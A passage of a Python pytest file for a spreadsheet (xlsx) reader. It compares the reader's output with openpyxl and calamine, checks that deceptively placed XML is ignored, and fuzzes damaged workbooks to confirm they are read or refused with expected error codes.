        ("bbbb", False),
        ("ge.m.d", True),
    ],
)
def test_date_formats(code: str, is_date: bool) -> None:
    assert is_date_format("170", code) is is_date


def test_a_format_that_no_program_writes_is_not_looked_at() -> None:
    assert is_date_format("170", f'yyyy"{"x" * 200}"')
    assert not is_date_format("170", f'yyyy"{"x" * 300}"')


def varied_workbook() -> bytes:
    """A workbook by XlsxWriter with something of everything."""
    chance, made = random.Random(7), io.BytesIO()
    with xlsxwriter.Workbook(made) as book:
        day = book.add_format({"num_format": "yyyy-mm-dd"})
        for name in ("One", "Été & co"):
            page = book.add_worksheet(name)
            for row in range(60):
                page.write_string(row, 0, f"Text {row % 9} <&> \u00e9\u6771 _x0041_\nnext")
                page.write_number(row, 2, chance.choice([0, -1, 1.5, 1e-7, 123456789012, 0.1 + 0.2]))
                page.write_datetime(row, 3, datetime.datetime(2024, 1, 1) + datetime.timedelta(days=row), day)
                page.write_boolean(row, 4, row % 2 == 0)
                page.write_formula(row, 6, f'=IF(C{row + 1}>0,"yes & no","")', None, "yes & no")
                page.write_blank(row, 7, None, day)
                page.write_rich_string(row, 9, "a", book.add_format({"bold": True}), "b", "c")
    return made.getvalue()


def test_openpyxl_and_calamine_see_the_same_values(way: str) -> None:
    data = varied_workbook()
    read = ooxml.read(data)
    second, third = (
        openpyxl.load_workbook(io.BytesIO(data), data_only=True),
        python_calamine.load_workbook(io.BytesIO(data)),
    )
    assert [each.name for each in read.sheets] == second.sheetnames == third.sheet_names
    for ours, theirs in zip(read.sheets, second.worksheets, strict=True):
        rows = third.get_sheet_by_name(ours.name).to_python(skip_empty_area=False)
        places = {
            (cell.row, cell.column) for line in theirs.iter_rows() for cell in line if cell.value is not None
        }
        assert places == {
            (row, column)
            for row, line in ours.cells.items()
            for column, cell in line.items()
            if cell.value is not None
        }
        for row, column in places:
            cell = ours.cell(row, column)
            assert cell is not None
            value = plain(theirs.cell(row, column).value)
            # openpyxl leaves an escape in a text as it stands in a formula's result, we decode both
            assert cell.value == value
            assert cell.value == plain(rows[row - 1][column - 1])
            assert (cell.formula is not None) == (column == 7)


def plain(value: object) -> object:
    if isinstance(value, datetime.date):
        day = value.date() if isinstance(value, datetime.datetime) else value
        return float(day.toordinal() - datetime.date(1899, 12, 30).toordinal())
    return value


def test_both_ways_of_reading_agree(monkeypatch: pytest.MonkeyPatch) -> None:
    """The pattern for plain rows and the handlers are two readers of one language."""
    data = varied_workbook()
    by_pattern = ooxml.read(data)
    for module in (ooxml, ooxml_parts):
        monkeypatch.setattr(module, "find_stretch", lambda content, element: None)
    assert ooxml.read(data) == by_pattern


def test_plain_workbooks_do_take_the_short_way(monkeypatch: pytest.MonkeyPatch) -> None:
    """What XlsxWriter and openpyxl write is plain: no element of a row is reported to the handlers."""
    seen: list[str] = []
    monkeypatch.setattr("hrge_xl.reader.ooxml_rows.SheetCells.open_row", lambda *_: seen.append("row"))
    resaved = io.BytesIO()
    openpyxl.load_workbook(io.BytesIO(varied_workbook())).save(resaved)
    assert ooxml.read(varied_workbook()).sheets[0].cells
    assert ooxml.read(resaved.getvalue()).sheets[0].cells
    assert seen == []


DATA = f"<sheetData>{GOOD_ROW}</sheetData>"
MISLEADING = {
    "data in a comment first": f'<worksheet xmlns="{MAIN}"><!-- {DATA} --><sheetData/></worksheet>',
    "data in an instruction": f'<worksheet xmlns="{MAIN}"><?x {DATA} ?><sheetData/></worksheet>',
    "data of another namespace": f'<p:worksheet xmlns:p="{MAIN}">{DATA}</p:worksheet>',
    "data in the wrong place": f'<worksheet xmlns="{MAIN}"><a xmlns="">{DATA}</a></worksheet>',
    "cells of another namespace": sheet('<row r="1" xmlns="a"><c r="A1"><v>1</v></c></row>'),
}


@pytest.mark.parametrize("part", MISLEADING.values(), ids=MISLEADING.keys())
def test_what_only_looks_like_cells_is_not_read(part: str) -> None:
    assert cells(ooxml.read(workbook(sheet(), changes={"xl/worksheets/sheet1.xml": part}))) == {}


def mutations(seed: int, count: int) -> Iterator[bytes]:
    """A workbook with everything in it, damaged: bytes changed, or tags lost, doubled and swapped."""
    chance = random.Random(seed)
    rows = "".join(rows for rows, _ in ROWS.values() if "<row>" not in rows)
    contents = parts(sheet(rows), strings=STRINGS)
    for _ in range(count):
        name = chance.choice(["xl/worksheets/sheet1.xml", *contents])
        original = contents[name]
        content = original if isinstance(original, bytes) else original.encode()
        mutate = chance.choice([_other_bytes, _other_tags])
        yield pack({**contents, name: mutate(chance, content)}, zipfile.ZIP_STORED)


def _other_bytes(chance: random.Random, content: bytes) -> bytes:
    changed = bytearray(content)
    for _ in range(chance.randint(1, 4)):
        changed[chance.randrange(len(changed))] = chance.choice(b'<>/"&= 0A\x00\xff')
    return bytes(changed)


def _other_tags(chance: random.Random, content: bytes) -> bytes:
    pieces = re.split(rb"(<[^>]*>)", content)
    for _ in range(chance.randint(1, 3)):
        one, other = chance.randrange(len(pieces)), chance.randrange(len(pieces))
        change = chance.randrange(3)
        if change == 0:
            pieces[one] = b""
        elif change == 1:
            pieces[one] = pieces[one] * 2
        else:
            pieces[one], pieces[other] = pieces[other], pieces[one]
    return b"".join(pieces)


def outcome_of(data: bytes) -> RawWorkbook | str:
    try:
        return ooxml.read(data)
    except Unreadable as problem:
        return problem.observation.code


def test_mutated_workbooks_are_read_or_refused_and_both_ways_alike(monkeypatch: pytest.MonkeyPatch) -> None:
    files = list(mutations(seed=20, count=600))
    by_pattern = [outcome_of(data) for data in files]
    for module in (ooxml, ooxml_parts):
        monkeypatch.setattr(module, "find_stretch", lambda content, element: None)
    assert by_pattern == [outcome_of(data) for data in files]
    codes_met = {outcome for outcome in by_pattern if isinstance(outcome, str)}
    assert codes_met >= {"F024", "F026", "F029"}
